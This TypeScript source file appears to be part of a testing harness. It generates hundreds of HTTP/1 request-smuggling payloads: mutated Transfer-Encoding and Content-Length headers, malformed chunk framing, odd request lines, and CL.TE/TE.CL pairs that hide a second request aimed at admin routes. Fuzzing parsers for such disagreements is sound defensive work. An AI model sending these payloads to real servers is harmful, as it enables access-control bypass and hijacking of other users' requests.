// Request smuggling in HTTP/1: two readers of the same bytes that disagree on where a request ends. The grammar follows the mutations of
// HTTP Garden (Narf Industries): lengths, encodings, chunk sizes, line ends, header names and values, versions; and random mutants.
import { APP_HOST, type Attack, bytesOf, http1, SMUGGLED, visible } from "./attack.ts";
import { mutants } from "./mutants.ts";

const CHUNKED = "chunked";
const END = "0\r\n\r\n";

/** Values of Transfer-Encoding that somebody reads as `chunked`, and others. */
const ENCODINGS = [
  ...[
    "chunked",
    "Chunked",
    "CHUNKED",
    "chunKed",
    "chun\xe2\x84\xaaed",
    " chunked",
    "  chunked",
    "\tchunked",
    "chunked ",
    "chunked\t",
    "\x0bchunked",
    "chunked\x0b",
    "\x0cchunked",
    "chunked\x0c",
  ],
  ...[
    "\x00chunked",
    "chunked\x00",
    "chunked\x00x",
    "chu\x00nked",
    "\x85chunked",
    "chunked\xa0",
    "\xa0chunked",
    "\xffchunked",
    "chunked\xff",
    "chunked\x7f",
    "chunked\r",
    "chunked\n",
    "\rchunked",
    "\nchunked",
  ],
  ...[
    "\r\n chunked",
    "\r\n\tchunked",
    "chunked\r\n ",
    "x\r\n chunked",
    "\n chunked",
    "chunked\r\n x",
    "\r\n\r\n chunked",
  ],
  ...[
    "xchunked",
    "chunkedx",
    "chunked-x",
    "x-chunked",
    "chunk",
    "chunke",
    "chunked;",
    "chunked;q=1",
    "chunked;q=0",
    "chunked;x=y",
    "chunked/1",
    "chunked:",
    '"chunked"',
    "'chunked'",
    "<chunked>",
    "chunked\\",
    "chu%6eked",
  ],
  ...[
    "chunked, identity",
    "identity, chunked",
    "chunked,identity",
    "identity,chunked",
    "identity",
    "identity;chunked",
    "chunked chunked",
    "chunked identity",
    "chunked, chunked",
    "chunked,chunked",
  ],
  ...[
    "gzip, chunked",
    "chunked, gzip",
    "gzip",
    "deflate, chunked",
    "x, chunked",
    "chunked, x",
    "trailers, chunked",
    "compress, gzip, chunked",
    "cow",
    "",
  ],
  ...[
    ",chunked",
    "chunked,",
    ",",
    ", chunked",
    "chunked, ",
    ",,chunked",
    "chunked,,",
    "chunked , ",
    " , chunked",
    "\t,\tchunked",
  ],
];

/** Header names that somebody reads as Transfer-Encoding. */
const NAMES = [
  ...[
    "transfer-encoding",
    "TRANSFER-ENCODING",
    "Transfer-Encoding ",
    "Transfer-Encoding\t",
    " Transfer-Encoding",
    "\tTransfer-Encoding",
    "Transfer_Encoding",
    "Transfer.Encoding",
    "Transfer Encoding",
  ],
  ...[
    "Transfer-Encoding\x00",
    "\x00Transfer-Encoding",
    "Transfer\x00-Encoding",
    "Transfer-Encoding\x0b",
    "\x0bTransfer-Encoding",
    "Transfer-Encoding\x0c",
    "Transfer-Encoding\r",
    "\rTransfer-Encoding",
    "\nTransfer-Encoding",
  ],
  ...[
    "Transfer-Encoding\x80",
    "Transfer-Encoding\xa0",
    "\xa0Transfer-Encoding",
    "\xefTransfer-Encoding",
    "Transfer-Encoding\x7f",
    "Transfer-Encoding:",
    ":Transfer-Encoding",
    "Transfer-Encoding;",
    "Transfer-Encoding,x",
  ],
  ...[
    "X: y\nTransfer-Encoding",
    "X: y\rTransfer-Encoding",
    "X: y\r\n Transfer-Encoding",
    "X: y\r\n\tTransfer-Encoding",
    "X\r\nTransfer-Encoding",
    "X:\r\nTransfer-Encoding",
    "X: y\n\rTransfer-Encoding",
    "X: y\x00\r\nTransfer-Encoding",
  ],
  ...[
    "Transfer-\u00cbncoding",
    "(Transfer-Encoding",
    "Transfer-Encoding)",
    "Transfer-Encoding\\",
    "Transfer-Encoding/",
    "TransferEncoding",
    "Content-Encoding",
    "TE",
    "X-Transfer-Encoding",
    "HTTP_TRANSFER_ENCODING",
  ],
];

/** Content-Length values; {N} is the true length. */
const LENGTHS = [
  ...[
    "+{N}",
    "-{N}",
    "0{N}",
    "00000000000000000000000000{N}",
    "{N}.0",
    "{N}.",
    "{N}e0",
    "0x{H}",
    "0X{H}",
    "\\x{H}",
    "{N}_",
    "0_{N}",
    "_{N}",
    "{N},",
    ",{N}",
    "{N},{N}",
    "{N}, {N}",
    "{N} ,{N}",
    "{N}\t,\t{N}",
    "{N}, 0",
    "0, {N}",
    "0,{N}",
    "{N},0",
    "{N};",
    "{N};0",
    "{N};x=y",
    "{N} {N}",
    "{N} 0",
    "0 {N}",
  ],
  ...[
    "{N}\x00",
    "\x00{N}",
    "{N}\x0b",
    "\x0b{N}",
    "{N}\x0c",
    "\x0c{N}",
    "{N}\x85",
    "{N}\xa0",
    "\xa0{N}",
    "{N}\r",
    "\r{N}",
    "{N}\n",
    "\n{N}",
    "\r\n {N}",
    "\r\n\t{N}",
    "{N}\r\n 0",
    "{N}\r\n ",
    "\t\t{N}",
    "{N}\t",
    "  {N}  ",
  ],
  ...[
    '"{N}"',
    "'{N}'",
    "{N}/0",
    "{N}:",
    "{N}x",
    "x{N}",
    "{N}%",
    "%3{N}",
    "\xef\xbc\x90{N}",
    "\xd9\xa0{N}",
    "",
    " ",
    "-0",
    "+0",
    "-1",
    "00",
    "0x0",
    "NaN",
    "Infinity",
    "null",
    "true",
  ],
  ...[
    "4294967296",
    "4294967297",
    "18446744073709551616",
    "18446744073709551617",
    "18446744073709551615",
    "9223372036854775808",
    "-9223372036854775808",
    "1e400",
    "340282366920938463463374607431768211456",
  ],
];

/** Sets of length lines. */
const LENGTH_LINES = [
  ...[
    "Content-Length: {N}\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: {N}",
    "Content-Length: {N}\r\nContent-Length: {N}",
    "Content-Length: {N}\r\nContent-Length: +{N}",
    "Content-Length: {N}\r\nX: y\r\nContent-Length: 0",
  ],
  ...[
    "Content-Length : {N}",
    " Content-Length: {N}",
    "Content-Length\t: {N}",
    "Content-Length\x00: {N}",
    "Content_Length: {N}",
    "Content-Length\x0b: {N}",
    "\x0bContent-Length: {N}",
    "Content-Length\r: {N}",
    "Content-Length {N}",
    "Content-Length:{N}",
    "content-length:{N}",
    "CONTENT-LENGTH: {N}",
  ],
  ...[
    "X: y\nContent-Length: {N}",
    "X: y\rContent-Length: {N}",
    "X: y\r\n Content-Length: {N}",
    "X\r\nContent-Length: {N}",
    ":Content-Length: {N}",
    "Content-Length:: {N}",
    "Content-Length: : {N}",
    "Content-Length;: {N}",
    "Content-Length\xa0: {N}",
    "Content-Length\x80: {N}",
    "\xffContent-Length: {N}",
  ],
  ...[
    "Content-Length: 0\r\nContent-Length : {N}",
    "Content-Length: 0\r\nContent_Length: {N}",
    "Content-Length: 0\r\n Content-Length: {N}",
    "Content_Length: 0\r\nContent-Length: {N}",
    "Content Length: {N}",
    "Content-Length-: {N}",
    "X-Content-Length: {N}",
    "Content-Length: {N}\r\nConnection: Content-Length",
    "Connection: Content-Length\r\nContent-Length: {N}",
  ],
];

/** The start of a chunk: {H} is the size of the data in hexadecimal. */
const CHUNK_HEADS = [
  ...[
    "{H}",
    "0{H}",
    "000000000000000000000{H}",
    "{H} ",
    "{H}\t",
    " {H}",
    "\t{H}",
    "{H};",
    "{H};x",
    "{H};x=y",
    '{H};x="y"',
    "{H}; x = y",
    "{H};;x",
    "{H};\x00",
    "{H};\xff",
    '{H};x="\r\n',
    "{H};x\n",
    "{H};x\r",
    "{H}\n",
    "{H}\r",
    "{H}\r\r",
    "{H} ;x",
    "{H}\t;x",
    "{H}  ",
  ],
  ...[
    "+{H}",
    "-{H}",
    "0x{H}",
    "0X{H}",
    "#{H}",
    "{H}_",
    "_{H}",
    "0_{H}",
    "0x0_{H}",
    "{H}.0",
    "{H},",
    "{H}:",
    '{H}"',
    "{H}g",
    "{H}x",
    "g{H}",
    "{H}\x00",
    "\x00{H}",
    "{H}\x0b",
    "{H}\x0c",
    "{H}\x85",
    "{H}\xa0",
    "\xa0{H}",
    "{H}\x80",
    "\xef\xbc\x90{H}",
    "%30{H}",
  ],
  ...[
    "100000000{H}",
    "1000000000000000{H}",
    "10000000000000000{H}",
    "100000000000000000{H}",
    "FFFFFFFF{H}",
    "FFFFFFFFFFFFFFFF{H}",
    "8000000000000000",
    "7FFFFFFFFFFFFFFF",
    "FFFFFFFFFFFFFFFF",
    "FFFFFFFF",
    "-1",
    "-0",
    "",
    "\r\n{H}",
    "\n{H}",
    "{H}\r\n\r\n",
    "{H}\n\n",
  ],
  ...[
    "{H};a\nSMUGGLED",
    "{H};\nSMUGGLED",
    "{H};x=\nx",
    "{H};x\rx",
    `{H};${"a".repeat(300)}`,
    '{H};x="\\\r\n',
    "0;{H}",
    "0 {H}",
    "0\t{H}",
    "0,{H}",
    "0x",
    "0\x00{H}",
  ],
];

/** What ends the data of a chunk, and the body. */
const CHUNK_ENDS = [
  "",
  "\n",
  "\r",
  "\r\r\n",
  "\n\n",
  "\r\n\r\n",
  "xx",
  "x\r\n",
  " \r\n",
  "\x00\r\n",
  "\r\x00\n",
];
const LAST_CHUNKS = [
  ...[
    "0\n\n",
    "0\r\n\n",
    "0\n\r\n",
    "0\r\r",
    "0\r\n\r",
    "0\r\nX: y\r\n\r\n",
    "0\r\nX: y\n\n",
    "0\r\nX: y\r\r",
    "0\r\nX\r\n\r\n",
    "0\r\n: y\r\n\r\n",
    "0\r\n X: y\r\n\r\n",
    "0\r\nX : y\r\n\r\n",
    "0\r\nX: y\r\n z\r\n\r\n",
  ],
  ...[
    "0\r\nContent-Length: 100\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    `0\r\nHost: admin.example.com\r\n\r\n`,
    "0\r\nX-Beta: open\r\n\r\n",
    "0\r\nX\x00: y\r\n\r\n",
    "0\r\nSMUGGLED",
    "0\r\n\x00\r\n",
    "0;x=y\r\n\r\n",
    "0;x\n\r\n",
    "00\r\n\r\n",
    "000000000000000000\r\n\r\n",
    "0x0\r\n\r\n",
    "+0\r\n\r\n",
    "-0\r\n\r\n",
    " 0\r\n\r\n",
    "0 \r\n\r\n",
    "0_0\r\n\r\n",
    "\r\n0\r\n\r\n",
    "\r\n\r\n",
  ],
];

/** Whole requests with something odd in their lines. */
const REQUESTS = [
  ...[
    "\r\nGET /any?CASE HTTP/1.1\r\nHOST\r\n",
    "\n\nGET /any?CASE HTTP/1.1\r\nHOST\r\n",
    "\r\n\r\n\r\nGET /any?CASE HTTP/1.1\r\nHOST\r\n",
    "\rGET /any?CASE HTTP/1.1\r\nHOST\r\n",
    " \r\nGET /any?CASE HTTP/1.1\r\nHOST\r\n",
    "\x00GET /any?CASE HTTP/1.1\r\nHOST\r\n",
  ],
  ...[
    "GET /any?CASE HTTP/1.1\nHOST\r\n",
    "GET /any?CASE HTTP/1.1\nHost: app.example.com\n\n",
    "GET /any?CASE HTTP/1.1\rHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\r\nHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\n\rHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOST\r",
    "GET /any?CASE HTTP/1.1\r\nHOST\n",
    "GET /any?CASE HTTP/1.1\r\nHOSTX: y\r\r\n\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOSTX: y\n\r\n\r\n",
  ],
  ...[
    "GET /any?CASE HTTP/1.1\r\n Host: app.example.com\r\n\r\n",
    "GET /any?CASE HTTP/1.1\r\n X: y\r\nHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\n\tX: y\r\nHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\n\r\nHOST\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOST: y\r\n\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOSTX\r\n\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOSTX y\r\n\r\n",
    "GET /any?CASE HTTP/1.1\r\nHOST:\r\n\r\n",
  ],
  ...[
    "GET /admin/users?CASE\r\n",
    "GET /admin/users?CASE\n",
    "GET /admin/users?CASE\r\n\r\n",
    "GET /any?CASE\r\n\r\n",
    "GET\r\n\r\n",
    "GET \r\n\r\n",
    "GET /any?CASE \r\nHOST\r\n",
    "GET /any?CASE HTTP/0.9\r\nHOST\r\n",
    "GET /admin/users?CASE HTTP/0.9\r\n\r\n",
    "GET /any?CASE HTTP/\r\nHOST\r\n",
    "GET /any?CASE HTTP\r\nHOST\r\n",
  ],
  ...[
    "HTTP/1.0",
    "HTTP/1.2",
    "HTTP/1.9",
    "HTTP/2.0",
    "HTTP/2",
    "HTTP/3.0",
    "HTTP/0.1",
    "HTTP/1.",
    "HTTP/.1",
    "HTTP/1",
    "HTTP/1.1.1",
    "HTTP/01.1",
    "HTTP/1.01",
    "HTTP/1.10",
    "HTTP/11.1",
    "HTTP/1.1x",
    "HTTP/1.1 ",
    "HTTP/1.1\t",
    " HTTP/1.1",
    "\tHTTP/1.1",
    "http/1.1",
    "Http/1.1",
    "HTTP/-1.1",
    "HTTP/1,1",
    "HTTP /1.1",
    "HTTP/ 1.1",
    "HTTPS/1.1",
    "XTTP/1.1",
    "ICY/1.1",
    "HTTP/1.1 HTTP/1.1",
    "HTTP/1.1\x00",
    "HTTP/1.1\x0b",
    "RTSP/1.0",
  ].map((version) => `GET /any?CASE ${version}\r\nHOST\r\n`),
  ...["\t", "  ", "\x0b", "\x0c", "\xa0", "\r", "\x00", " \t "].flatMap((blank) => [
    `GET${blank}/any?CASE HTTP/1.1\r\nHOST\r\n`,
    `GET /any?CASE${blank}HTTP/1.1\r\nHOST\r\n`,
    `GET /any?CASE${blank}/admin/users HTTP/1.1\r\nHOST\r\n`,
  ]),
  ...["\x00", "\r", "\n", "\x0b", "\x7f", "\x80", "\xff", "\r\n ", "\r\n\r\n", "\x01", "\x1b"].flatMap(
    (one) => [
      `GET /any?CASE HTTP/1.1\r\nHOSTX: a${one}b\r\n\r\n`,
      `GET /any?CASE HTTP/1.1\r\nHOSTX${one}Y: b\r\n\r\n`,
      `GET /any?CASE HTTP/1.1\r\nHOST${one}X: b\r\n\r\n`,
      `GET /any${one}x?CASE HTTP/1.1\r\nHOST\r\n`,
    ],
  ),
  ...["(", ")", ",", "/", ";", "<", "=", ">", "?", "@", "[", "\\", "]", "{", "}", '"', "é"].map(
    (one) => `GET /any?CASE HTTP/1.1\r\nHOSTX${one}: y\r\n\r\n`,
  ),
];

/** Requests that carry a body where few look for one, or promise something first. */
const CARRIERS: readonly (readonly [name: string, text: string])[] = [
  ["GET with a body", "GET /any?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  ["HEAD with a body", "HEAD /any?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  ["OPTIONS with a body", "OPTIONS /any?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  ["TRACE with a body", "TRACE /any?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  ["DELETE with a body", "DELETE /any?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  [
    "GET in chunks",
    "GET /any?CASE HTTP/1.1\r\nHOSTTransfer-Encoding: chunked\r\n\r\n{H}\r\nSMUGGLED\r\n0\r\n\r\n",
  ],
  ["a body for a redirecting route", "POST /answer?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  ["a body for a denied route", "POST /admin/users?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  [
    "a body for no route",
    "POST /any?CASE HTTP/1.1\r\nHost: none.example\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  ["a static folder's body", "POST /static/x.css?CASE HTTP/1.1\r\nHOSTContent-Length: {N}\r\n\r\nSMUGGLED"],
  [
    "a body of an unknown type",
    "POST /any?CASE HTTP/1.1\r\nHOSTContent-Type: x\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "gzip that is none",
    "POST /any?CASE HTTP/1.1\r\nHOSTContent-Encoding: gzip\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect, body at once",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect of something else",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: 200-ok\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect in capitals",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: 100-CONTINUE\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "two Expect",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: x\r\nExpect: 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect with blank",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect:\r\n 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect, GET",
    "GET /any?CASE HTTP/1.1\r\nHOSTExpect: 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect, HEAD",
    "HEAD /any?CASE HTTP/1.1\r\nHOSTExpect: 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect, chunks",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n{H}\r\nSMUGGLED\r\n0\r\n\r\n",
  ],
  [
    "Expect, HTTP/1.0",
    "POST /any?CASE HTTP/1.0\r\nHOSTExpect: 100-continue\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Expect and no body",
    "POST /any?CASE HTTP/1.1\r\nHOSTExpect: 100-continue\r\nContent-Length: 0\r\n\r\nSMUGGLED",
  ],
  ["pipelined", "GET /any?CASE HTTP/1.1\r\nHost: app.example.com\r\n\r\nSMUGGLED"],
  [
    "pipelined after a body",
    "POST /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nContent-Length: 3\r\n\r\nabcSMUGGLED",
  ],
  ["pipelined after HEAD", "HEAD /any?CASE HTTP/1.1\r\nHost: app.example.com\r\n\r\nSMUGGLED"],
  ["pipelined after a close", "GET /any?CASE HTTP/1.1\r\nHOST\r\nSMUGGLED"],
  [
    "pipelined in HTTP/1.0",
    "GET /any?CASE HTTP/1.0\r\nHost: app.example.com\r\nConnection: keep-alive\r\n\r\nSMUGGLED",
  ],
  [
    "chunks in HTTP/1.0",
    "POST /any?CASE HTTP/1.0\r\nHost: app.example.com\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nSMUGGLED",
  ],
  [
    "chunks and a length in HTTP/1.0",
    "POST /any?CASE HTTP/1.0\r\nHost: app.example.com\r\nConnection: keep-alive\r\nContent-Length: {N}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nSMUGGLED",
  ],
  ["a body of no length", "POST /any?CASE HTTP/1.1\r\nHost: app.example.com\r\n\r\nSMUGGLED"],
  ["a body of no length in HTTP/1.0", "POST /any?CASE HTTP/1.0\r\nHost: app.example.com\r\n\r\nSMUGGLED"],
  [
    "Upgrade with a body",
    "POST /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nConnection: Upgrade\r\nUpgrade: portico-tunnel\r\nContent-Length: {N}\r\n\r\nSMUGGLED",
  ],
  [
    "Upgrade with chunks",
    "POST /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nTransfer-Encoding: chunked\r\n\r\n{H}\r\nSMUGGLED\r\n0\r\n\r\n",
  ],
  [
    "Upgrade of a bad version",
    "GET /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\nSMUGGLED",
  ],
  [
    "Upgrade: h2c and its preface",
    "GET /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
  ],
  [
    "Connection: keep-alive, Transfer-Encoding",
    "POST /any?CASE HTTP/1.1\r\nHost: app.example.com\r\nConnection: keep-alive, Transfer-Encoding\r\nContent-Length: {N}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nSMUGGLED",
  ],
];

const HOST_LINES = `Host: ${APP_HOST}\r\nConnection: close\r\nX-Case: ID\r\n`;

export const framing: readonly Attack[] = [
  ...ENCODINGS.flatMap((value) => encodings(`Transfer-Encoding: ${value}`)),
  ...NAMES.flatMap((name) => encodings(`${name}: ${CHUNKED}`)),
  ...[
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
  ].flatMap(encodings),
  ...LENGTHS.map((value) => length(`Content-Length: ${value}`)),
  ...LENGTH_LINES.map(length),
  ...CHUNK_HEADS.flatMap((head) => [
    chunks(`chunk ${head}`, `${head}\r\nSMUGGLED\r\n${END}`),
    chunks(`second chunk ${head}`, `1\r\nx\r\n${head}\r\nSMUGGLED\r\n${END}`),
  ]),
  ...CHUNK_ENDS.map((end) => chunks(`chunk that ends in ${end}`, `{H}\r\nSMUGGLED${end}${END}`)),
  ...CHUNK_ENDS.map((end) => chunks(`chunk too short, then ${end}`, `3\r\nSMUGGLED${end}${END}`)),
  ...LAST_CHUNKS.map((last) => chunks(`last chunk ${last}`, `1\r\nx\r\n${last}SMUGGLED`)),
  ...REQUESTS.map((text) => raw(text.replaceAll("CASE", "").slice(0, 80), text)),
  ...CARRIERS.map(([name, text]) => raw(name, text)),
  ...mutants(raw),
];

/** Both ways in which two readers may differ, with the length before and after the encoding. */
function encodings(line: string): readonly Attack[] {
  return (["first", "last"] as const).flatMap((place) => {
    const lines = (length: number) => {
      const announced = `Content-Length: ${length}\r\n`;
      return place === "first" ? `${announced}${line}\r\n` : `${line}\r\n${announced}`;
    };
    const chunk = (id: string) => `${hex(id)}\r\n${smuggled(id)}\r\n${END}`;
    return [
      framed(`CL.TE, length ${place}: ${line}`, (id) => [
        lines(END.length + smuggled(id).length),
        `${END}SMUGGLED`,
      ]),
      framed(`TE.CL, length ${place}: ${line}`, (id) => [lines(hex(id).length + 2), chunk(id)]),
      ...(place === "first" ? [framed(`no length: ${line}`, (id) => [`${line}\r\n`, chunk(id)])] : []),
    ];
  });
}

function length(lines: string): Attack {
  return framed(lines, (id) => [`${numbered(lines, id)}\r\n`, "SMUGGLED"]);
}

function chunks(name: string, body: string): Attack {
  return framed(name, (id) => ["Transfer-Encoding: chunked\r\n", numbered(body, id)]);
}

function raw(name: string, text: string): Attack {
  return {
    kind: "framing",
    name: visible(name),
    bytes: (id) => bytesOf(numbered(text.replaceAll("HOST", HOST_LINES).replace("ID", id), id), id),
  };
}

function framed(name: string, parts: (id: string) => readonly [headers: string, body: string]): Attack {
  return {
    kind: "framing",
    name: visible(name),
    bytes: (id) => {
      const [headers, body] = parts(id);
      return http1(id, { method: "POST", headers, body });
    },
  };
}

function smuggled(id: string): string {
  return bytesOf(SMUGGLED, id).toString("latin1");
}

function hex(id: string): string {
  return smuggled(id).length.toString(16);
}

/** `{N}` and `{H}` are the length of the smuggled request, decimal and hexadecimal. */
function numbered(text: string, id: string): string {
  return text.replaceAll("{N}", `${smuggled(id).length}`).replaceAll("{H}", hex(id));
}
